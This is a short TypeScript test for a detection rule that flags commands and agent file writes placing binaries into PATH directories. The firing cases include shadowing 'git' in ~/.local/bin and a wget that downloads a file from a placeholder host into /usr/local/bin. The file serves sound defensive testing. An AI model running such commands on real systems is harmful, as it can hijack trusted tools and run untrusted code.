import { rule } from './path-binary.ts';
import { describeRule } from '../../rule-examples.ts';

describeRule(rule, {
  fires: [
    'cp tool ~/.local/bin/git',
    'cp tools/git ~/.local/bin',
    'install -m 755 -t /usr/local/bin tool',
    'mv tool /usr/local/bin/',
    'wget -O /usr/local/bin/tool https://a.example.net/t',
    { tool: 'Write', input: { file_path: '/home/dev/.local/bin/git' } },
  ],
  quiet: [
    'cp tool bin/tool',
    'ls /usr/local/bin',
    { tool: 'Write', input: { file_path: '/home/dev/shop/bin/run' } },
  ],
});
